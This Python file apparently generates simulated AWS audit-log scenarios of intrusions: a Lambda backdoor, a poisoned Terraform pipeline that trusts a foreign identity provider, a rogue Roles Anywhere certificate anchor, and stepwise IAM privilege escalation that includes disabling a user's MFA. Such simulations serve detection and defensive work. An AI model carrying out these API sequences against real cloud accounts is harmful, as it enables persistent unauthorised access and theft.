"""Ways to come back: functions, trust in foreign providers, certificates, and a poisoned pipeline."""

from typing import Final

from company import CLI_LINUX, PEOPLE, ROLE_OF_PROVIDER, SHOP, STAGING, TERRAFORM
from record import Caller, session
from shapes import function_arn
from story import ADMIN_POLICY, ALL, OUTSIDE, Story, hijacked, new_id, scenario, stolen

SDK: Final = "Boto3/1.34.131 md/Botocore#1.34.131 ua/2.0 os/macos#23.5.0 lang/python#3.12.4"
CERTIFICATE: Final = "-----BEGIN CERTIFICATE-----\nMIIBEXAMPLE\n-----END CERTIFICATE-----"


def _trust(principal: str) -> str:
    return f'{{"Version":"2012-10-17","Statement":[{{"Effect":"Allow","Principal":{principal},"Action":"sts:AssumeRole"}}]}}'


@scenario
def lambda_persistence(story: Story) -> None:
    """A function with a public address and a strong role, called every hour; a layer in the functions of the shop."""
    thief = stolen("sato.y", "203.0.113.25", SDK)
    story.at(19, "02:44", (3, 20))
    role = f"arn:aws:iam::{SHOP}:role/shop-mail-bounce-role"
    story.do("who am I", thief, "sts:GetCallerIdentity")
    story.do(
        "more for a role of a function",
        thief,
        "iam:AttachRolePolicy",
        request={"roleName": "shop-mail-bounce-role", "policyArn": ADMIN_POLICY},
    )
    story.do(
        "a function",
        thief,
        "lambda:CreateFunction20150331",
        request={
            "functionName": "health-probe",
            "runtime": "python3.12",
            "role": role,
            "handler": "index.handler",
            "timeout": 300,
            "code": {},
            "publish": False,
        },
    )
    story.do(
        "an address of its own",
        thief,
        "lambda:CreateFunctionUrlConfig",
        request={"functionName": "health-probe", "authType": "NONE", "invokeMode": "BUFFERED"},
    )
    story.do(
        "for everybody",
        thief,
        "lambda:AddPermission20150331v2",
        request={
            "functionName": "health-probe",
            "statementId": "FunctionURLAllowPublicAccess",
            "action": "lambda:InvokeFunctionUrl",
            "principal": "*",
            "functionUrlAuthType": "NONE",
        },
    )
    story.several(
        "by the hour, and at every new user",
        thief,
        [
            ("events:PutRule", {"name": "health-probe", "scheduleExpression": "rate(1 hour)"}),
            (
                "events:PutTargets",
                {"rule": "health-probe", "targets": [{"id": "1", "arn": function_arn("health-probe")}]},
            ),
            ("events:PutRule", {"name": "on-user", "eventPattern": '{"detail":{"eventName":["CreateUser"]}}'}),
        ],
    )
    story.do(
        "a layer from outside",
        thief,
        "lambda:UpdateFunctionConfiguration20150331v2",
        request={
            "functionName": "shop-order-webhook",
            "layers": [f"arn:aws:lambda:ap-northeast-1:{OUTSIDE}:layer:insights:3"],
            "environment": {},
        },
    )
    story.do(
        "other code",
        thief,
        "lambda:UpdateFunctionCode20150331v2",
        request={
            "functionName": "shop-mail-bounce",
            "publish": False,
            "dryRun": False,
            "fullyQualifiedArn": {
                "arnPrefix": {"partition": "aws", "region": "ap-northeast-1", "account": SHOP},
                "relativeId": {"functionName": "shop-mail-bounce"},
                "functionQualifier": {},
            },
        },
    )
    story.now += 3600
    inside = Caller(
        session(SHOP, "shop-mail-bounce-role", "health-probe", story.now), SHOP, "203.0.113.26", "curl/8.5.0"
    )
    story.several(
        "through the function",
        inside,
        [("iam:CreateAccessKey", {"userName": "watanabe.h"}), ("iam:ListUsers", {"maxItems": 100})],
    )


@scenario
def poisoned_pipeline(story: Story) -> None:
    """A module of Terraform is poisoned: the pipeline itself, from its own address, opens the account."""
    story.at(10, "17:20", (0.5, 4))
    run = Caller(
        session(
            SHOP,
            "TerraformCloudApply",
            "terraform-run-00000000000000aa",
            story.now - 200,
            web=ROLE_OF_PROVIDER["terraform"],
        ),
        SHOP,
        "198.51.100.3",
        TERRAFORM,
    )
    foreign = "oidc.parcel-notice.example"
    story.do(
        "trust in a foreign provider",
        run,
        "iam:CreateOpenIDConnectProvider",
        request={"url": f"https://{foreign}", "clientIDList": ["sts.amazonaws.com"], "thumbprintList": ["0" * 40]},
        response={"openIDConnectProviderArn": f"arn:aws:iam::{SHOP}:oidc-provider/{foreign}"},
    )
    story.do(
        "a role for it",
        run,
        "iam:CreateRole",
        request={
            "roleName": "tf-module-telemetry",
            "path": "/",
            "assumeRolePolicyDocument": _trust(
                f'{{"Federated":"arn:aws:iam::{SHOP}:oidc-provider/{foreign}"}}'
            ).replace("sts:AssumeRole", "sts:AssumeRoleWithWebIdentity"),
        },
    )
    story.do(
        "an administrator",
        run,
        "iam:AttachRolePolicy",
        request={"roleName": "tf-module-telemetry", "policyArn": ADMIN_POLICY},
    )
    story.do(
        "and an old role, for another account",
        run,
        "iam:UpdateAssumeRolePolicy",
        request={
            "roleName": "shop-refund-role",
            "policyDocument": _trust(f'{{"AWS":"arn:aws:iam::{OUTSIDE}:role/pull"}}'),
        },
    )
    story.do(
        "any repository may deploy",
        run,
        "iam:UpdateAssumeRolePolicy",
        request={
            "roleName": "github-preview",
            "policyDocument": '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"Federated":"arn:aws:iam::410300000022:oidc-provider/token.actions.githubusercontent.com"},"Action":"sts:AssumeRoleWithWebIdentity"}]}',
        },
    )
    story.do(
        "the variables of the run",
        run,
        "ssm:GetParametersByPath",
        request={"path": "/ci", "recursive": True, "withDecryption": True},
    )
    story.now += 2 * 3600
    identity = session(
        SHOP, "tf-module-telemetry", "telemetry", story.now, web=f"arn:aws:iam::{SHOP}:oidc-provider/{foreign}"
    )
    who = {
        "type": "WebIdentityUser",
        "principalId": f"arn:aws:iam::{SHOP}:oidc-provider/{foreign}:sts.amazonaws.com:root",
        "userName": "root",
        "identityProvider": f"arn:aws:iam::{SHOP}:oidc-provider/{foreign}",
    }
    story.do(
        "in by the foreign provider",
        Caller(who, SHOP, "198.51.100.45", SDK),
        "sts:AssumeRoleWithWebIdentity",
        request={"roleArn": f"arn:aws:iam::{SHOP}:role/tf-module-telemetry", "roleSessionName": "telemetry"},
        response={
            "credentials": {"accessKeyId": identity["accessKeyId"], "sessionToken": "IQoEXAMPLE"},
            "subjectFromWebIdentityToken": "root",
        },
    )
    story.several(
        "at work",
        Caller(identity, SHOP, "198.51.100.45", SDK),
        [
            ("sts:GetCallerIdentity", None),
            ("s3:ListBuckets", {"Host": "s3.amazonaws.com"}),
            ("secretsmanager:ListSecrets", {}),
        ],
    )


@scenario
def roles_anywhere_anchor(story: Story) -> None:
    """A certificate authority of the thief is trusted: roles from any machine, without a key."""
    story.at(18, "21:05")
    thief = hijacked(PEOPLE["tanaka.k"], story.now - 4000, "203.0.113.40", PEOPLE["tanaka.k"].browser)
    hidden = [{"key": "HIDDEN_DUE_TO_SECURITY_REASONS", "value": "HIDDEN_DUE_TO_SECURITY_REASONS"}]
    anchor = story.pen.uuid()
    story.do(
        "an anchor",
        thief,
        "rolesanywhere:CreateTrustAnchor",
        request={
            "name": "onprem-hsm",
            "enabled": True,
            "source": {"sourceType": "CERTIFICATE_BUNDLE", "sourceData": {"x509CertificateData": CERTIFICATE}},
            "tags": hidden,
        },
        response={"trustAnchor": {"trustAnchorId": anchor, "name": "onprem-hsm", "enabled": True}},
    )
    story.do(
        "a role that trusts it",
        thief,
        "iam:CreateRole",
        request={
            "roleName": "onprem-sync",
            "assumeRolePolicyDocument": _trust('{"Service":"rolesanywhere.amazonaws.com"}'),
        },
    )
    story.do(
        "with all rights",
        thief,
        "iam:PutRolePolicy",
        request={"roleName": "onprem-sync", "policyName": "sync", "policyDocument": ALL},
    )
    story.do(
        "a profile",
        thief,
        "rolesanywhere:CreateProfile",
        request={
            "name": "onprem-sync",
            "enabled": True,
            "durationSeconds": 43200,
            "roleArns": [f"arn:aws:iam::{SHOP}:role/onprem-sync"],
            "tags": hidden,
        },
    )
    story.now += 5 * 3600
    role = f"arn:aws:iam::{SHOP}:role/onprem-sync"
    name = f"{story.rng.getrandbits(128):032x}"
    nobody = Caller(
        {"type": "Unknown", "principalId": "", "arn": "", "accountId": SHOP, "accessKeyId": "", "userName": ""},
        SHOP,
        "203.0.113.41",
        "CredHelper/1.7.0 (linux; amd64; go1.22)",
    )
    story.do(
        "a session by certificate",
        nobody,
        "rolesanywhere:CreateSession",
        request={
            "roleArn": role,
            "durationSeconds": 43200,
            "cert": CERTIFICATE,
            "trustAnchorArn": f"arn:aws:rolesanywhere:ap-northeast-1:{SHOP}:trust-anchor/{anchor}",
        },
        read=False,
    )
    machine = Caller(session(SHOP, "onprem-sync", name, story.now), SHOP, "203.0.113.41", CLI_LINUX)
    story.several(
        "at work",
        machine,
        [
            ("sts:GetCallerIdentity", None),
            ("iam:ListUsers", None),
            ("ec2:DescribeSnapshots", {"snapshotSet": {}, "ownersSet": {}, "sharedUsersSet": {}, "filterSet": {}}),
        ],
    )


@scenario
def quiet_escalation(story: Story) -> None:
    """From a contractor's rights to an administrator's in small steps, each of which looks like housekeeping."""
    thief = stolen("ext-nguyen", "192.0.2.146", "aws-cli/2.31.5 md/awscrt#0.27.6 ua/2.1 os/windows#10", STAGING)
    policy = f"arn:aws:iam::{STAGING}:policy/contractors"
    story.at(25, "20:50", (20, 120))
    story.several(
        "versions of a policy",
        thief,
        [
            ("iam:GetPolicy", {"policyArn": policy}),
            ("iam:ListPolicyVersions", {"policyArn": policy}),
            ("iam:GetPolicyVersion", {"policyArn": policy, "versionId": "v1"}),
        ],
    )
    story.do(
        "an old version that allowed more",
        thief,
        "iam:SetDefaultPolicyVersion",
        request={"policyArn": policy, "versionId": "v1"},
    )
    story.do("a second key", thief, "iam:CreateAccessKey", request={"userName": "kato.e"})
    story.do(
        "another's password",
        thief,
        "iam:UpdateLoginProfile",
        request={"userName": "kato.e", "passwordResetRequired": False},
    )
    story.do(
        "without a factor",
        thief,
        "iam:DeactivateMFADevice",
        request={"userName": "kato.e", "serialNumber": f"arn:aws:iam::{STAGING}:mfa/kato.e"},
    )
    story.do("no boundary", thief, "iam:DeleteRolePermissionsBoundary", request={"roleName": "TerraformCloudApply"})
    story.do(
        "a credential for git",
        thief,
        "iam:CreateServiceSpecificCredential",
        request={"userName": "ext-nguyen", "serviceName": "codecommit.amazonaws.com"},
    )
    inside = story.assume("an old chain of roles", thief, "TerraformCloudApply", "nguyen")
    chained = story.assume("and further", inside, "OrganizationAccountAccessRole", "nguyen", account=SHOP)
    story.do(
        "in production",
        chained,
        "ec2:ModifyInstanceMetadataOptions",
        request={
            "ModifyInstanceMetadataOptionsRequest": {
                "InstanceId": new_id(story, "i"),
                "HttpTokens": "optional",
                "HttpEndpoint": "enabled",
            }
        },
    )
    story.do(
        "a profile with a strong role",
        chained,
        "ec2:ReplaceIamInstanceProfileAssociation",
        request={
            "ReplaceIamInstanceProfileAssociationRequest": {
                "AssociationId": "iip-assoc-0a1b2c3d4e5f6a7b8",
                "IamInstanceProfile": {"Name": "TerraformAgentRole"},
            }
        },
    )
